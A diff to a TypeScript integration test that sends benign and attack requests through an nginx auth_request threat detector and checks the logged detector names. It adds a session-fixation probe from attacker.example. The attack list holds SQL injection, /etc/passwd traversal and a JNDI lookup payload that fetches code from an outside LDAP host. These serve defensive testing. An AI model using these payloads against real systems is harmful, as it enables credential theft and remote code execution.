@@ -30,6 +30,9 @@ interface Probe {
   userAgent: string;
   /** A detector the agent must name for an attack. */
   detector?: string;
+  /** Host and Referer headers when not the defaults (127.0.0.1:port, https://shop.example/). */
+  host?: string;
+  referer?: string;
 }
 
 const SHOP: Probe[] = [
@@ -38,12 +41,16 @@ const SHOP: Probe[] = [
   { target: '/products/1234/reviews?page=3&sort=newest', userAgent: BROWSER },
   { target: '/search?q=running+shoes+size+44', userAgent: BROWSER },
   { target: '/checkout/shipping?country=DE', userAgent: BROWSER },
+  // A session id in the URL is fine from the site's own page: nginx passes $host as X-Original-Host.
+  { target: '/account?jsessionid=A1B2C3', userAgent: BROWSER, host: 'shop.example', referer: 'https://shop.example/login' },
 ];
 const ATTACKS: Probe[] = [
   { target: "/products?id=1'%20UNION%20SELECT%20username,password%20FROM%20users--", userAgent: BROWSER, detector: 'sqli-union-select' },
   { target: '/download?file=../../../../etc/passwd', userAgent: BROWSER, detector: 'lfi-traversal' },
   { target: '/shop/offers', userAgent: SCANNER, detector: 'scanner-ua' },
   { target: '/search?q=%24%7Bjndi:ldap://203.0.113.9:1389/Exploit%7D', userAgent: BROWSER, detector: 'java-jndi-lookup' },
+  // ...and session fixation from a link on another site.
+  { target: '/account?jsessionid=PLANTED1', userAgent: BROWSER, host: 'shop.example', referer: 'https://attacker.example/offer', detector: 'session-id-param' },
 ];
 
 interface Answer {
@@ -54,7 +61,7 @@ interface Answer {
 /** GET through node:http, which sends the target as written (fetch would resolve `../` and re-encode it). */
 function get(port: number, probe: Probe): Promise<Answer> {
   return new Promise((resolve, reject) => {
-    const request = http.get({ host: '127.0.0.1', port, path: probe.target, agent: false, headers: { 'user-agent': probe.userAgent, referer: 'https://shop.example/' } }, (response) => {
+    const request = http.get({ host: '127.0.0.1', port, path: probe.target, agent: false, headers: { 'user-agent': probe.userAgent, referer: probe.referer ?? 'https://shop.example/', ...(probe.host !== undefined ? { host: probe.host } : {}) } }, (response) => {
       let body = '';
       response.setEncoding('utf8').on('data', (chunk: string) => (body += chunk));
       response.on('end', () => resolve({ status: response.statusCode ?? 0, body }));
@@ -86,7 +93,7 @@ interface StoredAccess {
   threat?: { score?: number; reasons?: { detector: string }[] };
   rule?: { name?: string };
   source?: { ip?: string };
-  url?: { original?: string };
+  url?: { original?: string; domain?: string };
   user_agent?: { original?: string };
   http?: { response?: { status_code?: number } };
 }
@@ -180,6 +187,7 @@ describe('nginx auth_request in front of an application', () => {
       expect(doc?.threat?.score).toBeGreaterThanOrEqual(0.5);
       expect(doc?.threat?.reasons?.map((reason) => reason.detector)).toContain(probe.detector);
       expect(doc?.rule?.name).toEqual(expect.any(String));
+      if (probe.host !== undefined) expect(doc?.url?.domain).toBe(probe.host);
     }
     for (const probe of SHOP) {
       const doc = find(probe);
